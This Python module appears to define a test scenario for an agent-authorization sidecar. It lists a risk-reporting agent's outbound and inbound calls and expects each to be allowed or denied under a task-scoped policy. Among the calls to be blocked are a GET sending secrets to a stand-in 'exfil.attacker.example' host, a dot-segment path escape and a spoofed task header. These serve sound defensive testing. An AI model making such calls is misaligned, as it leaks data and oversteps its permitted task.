"""The quarterly-risk-report scenario: the task, the agent's calls and what must happen to each.

An analyst (``user:jane.doe@example.com``) asks the risk-reporter agent for the Q3 risk report. The
task lets the agent GET prices from the internal market-data API (one path prefix, read-only) and
POST twice to a paid sentiment API over HTTPS, whose key the sidecar injects: the agent's own TLS
connection (through ``HTTPS_PROXY``) is intercepted with a certificate of the per-pod CA, and Envoy
opens a verified TLS connection to the API (``tls: intercept``). Everything else is denied.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

__all__ = [
    "AGENT",
    "INTRUDER",
    "ISSUER",
    "MARKET",
    "ON_BEHALF_OF",
    "ORCHESTRATOR",
    "SENTIMENT",
    "TASK_ID",
    "Call",
    "InboundCall",
    "calls",
    "inbound_calls",
    "sidecar_config",
]

TRUST_DOMAIN = "demo.agent-authz.local"
AGENT = f"spiffe://{TRUST_DOMAIN}/ns/finance/sa/risk-reporter"
ORCHESTRATOR = f"spiffe://{TRUST_DOMAIN}/ns/finance/sa/orchestrator"
INTRUDER = f"spiffe://{TRUST_DOMAIN}/ns/marketing/sa/campaign-bot"
ON_BEHALF_OF = "user:jane.doe@example.com"
TASK_ID = "q3-risk-report"
ISSUER = "https://agent-authz.demo.local"
MARKET = "market-data.internal"
SENTIMENT = "sentiment.example.com"
MARKET_AUDIENCE = "https://market-data.internal"


@dataclass(frozen=True)
class Call:
    """One call of the sample agent and the outcome the task demands."""

    method: str
    url: str
    status: int
    reason: str
    note: str
    headers: dict[str, str] = field(default_factory=dict)
    body: str | None = None

    def as_json(self) -> dict[str, Any]:
        """The form :mod:`sidecar.demo.agent` reads."""
        return {"method": self.method, "url": self.url, "headers": self.headers, "body": self.body}


def calls() -> list[Call]:
    """The agent's calls, partly inside the task and partly outside."""
    market = f"http://{MARKET}"
    sentiment = f"https://{SENTIMENT}/v1/analyze"
    return [
        Call("GET", f"{market}/v1/prices/ACME?quarter=2026Q3", 200, "allowed", "prices, inside the task"),
        Call("GET", f"{market}/v1/prices/ACME/volatility", 200, "allowed", "deeper under the allowed prefix"),
        Call(
            "GET",
            f"{market}/v1/prices/GLOBEX",
            200,
            "allowed",
            "agent's own Authorization is replaced",
            headers={"Authorization": "Bearer agent-supplied-secret"},
        ),
        Call("GET", f"{market}/v1/customers/export", 403, "path_not_allowed", "customer data is outside the task"),
        Call("GET", f"{market}/v1/prices/../customers/export", 403, "path_not_allowed", "dot-segment escape"),
        Call("DELETE", f"{market}/v1/prices/ACME", 403, "method_not_allowed", "read-only task"),
        Call("POST", sentiment, 200, "allowed", "paid API over HTTPS, key injected", body='{"text": "ACME beats Q3"}'),
        Call("POST", sentiment, 200, "allowed", "paid API, 2nd of 2 calls", body='{"text": "GLOBEX misses"}'),
        Call("POST", sentiment, 429, "budget_exhausted", "paid API over budget (inside TLS)", body='{"text": "more"}'),
        Call("GET", "http://exfil.attacker.example/upload?d=secrets", 403, "host_not_allowed", "unknown host"),
        Call(
            "GET",
            f"{market}/v1/prices/ACME",
            403,
            "unknown_task",
            "claims a task it does not have",
            headers={"x-agent-task": "admin-task"},
        ),
    ]


@dataclass(frozen=True)
class InboundCall:
    """A call made *to* the agent by a workload holding the SVID ``caller`` (``None``: no certificate)."""

    caller: str | None
    method: str
    path: str
    status: int | None  # None: the TLS handshake must fail
    reason: str
    note: str


def inbound_calls() -> list[InboundCall]:
    """Who calls the agent's own API (through Envoy's mTLS ingress listener)."""
    return [
        InboundCall(ORCHESTRATOR, "GET", "/v1/report/status", 200, "allowed", "the orchestrator checks progress"),
        InboundCall(ORCHESTRATOR, "DELETE", "/v1/report", 403, "method_not_allowed", "read-only for the orchestrator"),
        InboundCall(
            INTRUDER, "GET", "/v1/report/status", 403, "caller_not_allowed", "valid SVID, not an allowed caller"
        ),
        InboundCall(None, "GET", "/v1/report/status", None, "handshake_refused", "no client certificate"),
    ]


def sidecar_config(state: Path, upstream_port: int, agent_app_port: int, sentiment_port: int) -> dict[str, Any]:
    """The demo's ``sidecar.yaml`` as a dict (ports 0: Envoy and the admin server pick free ones).

    ``sentiment_port`` is the paid API's HTTPS port (its certificate from the demo's upstream CA,
    ``upstream-ca/ca.pem``, which Envoy verifies it against).
    """
    address = f"127.0.0.1:{upstream_port}"
    return {
        "agent": AGENT,
        "identity": {
            "source": "files",
            "files": {
                "svid": "svids/risk-reporter.pem",
                "key": "svids/risk-reporter.key",
                "bundles": {TRUST_DOMAIN: "ca/bundle.pem"},
                "jwt_bundles": {TRUST_DOMAIN: "ca/jwt-bundle.json"},
            },
        },
        "ingress": {
            "rules": [
                {
                    "name": "orchestrator-status",
                    "callers": [{"id": ORCHESTRATOR}],
                    "methods": ["GET"],
                    "paths": ["/v1/report/*"],
                }
            ]
        },
        "issuer": {
            "url": ISSUER,
            "signing_key": "keys/signing.pem",
            "next_signing_key": "keys/next.pem",
            "algorithm": "ES256",
            "max_token_ttl": "5m",
        },
        "listen": {"authz": f"unix:{state / 'ctl' / 'authz.sock'}", "admin": "127.0.0.1:0"},
        "envoy": {
            "egress_port": 0,
            "admin_socket": str(state / "ctl" / "envoy-admin.sock"),
            "destinations": {MARKET: address, SENTIMENT: f"127.0.0.1:{sentiment_port}"},
            "local_app": f"127.0.0.1:{agent_app_port}",
            "ingress_address": "127.0.0.1",
            "ingress_port": 0,
            "upstream_ca": "upstream-ca/ca.pem",
        },
        "intercept": {"state_dir": "intercept", "publish_dir": "trust"},
        "decision_log": {"path": "decisions.log", "stdout": False},
        "tasks": [
            {
                "id": TASK_ID,
                "agent": AGENT,
                "on_behalf_of": ON_BEHALF_OF,
                "purpose": "Generate the Q3 quarterly risk assessment report",
                "ttl": "30m",
                "max_calls": 50,
                "egress": [
                    {
                        "name": "market-data-read",
                        "host": MARKET,
                        "methods": ["GET"],
                        "paths": ["/v1/prices/*"],
                        "audience": MARKET_AUDIENCE,
                        "scope": "prices:read",
                    },
                    {
                        "name": "sentiment-analyze",
                        "host": SENTIMENT,
                        "methods": ["POST"],
                        "paths": ["/v1/analyze"],
                        "max_calls": 2,
                        "token": False,
                        "credential": {"header": "x-api-key", "file": "secrets/sentiment-api.key"},
                        "tls": "intercept",
                        "upstream_port": sentiment_port,
                    },
                ],
            }
        ],
    }
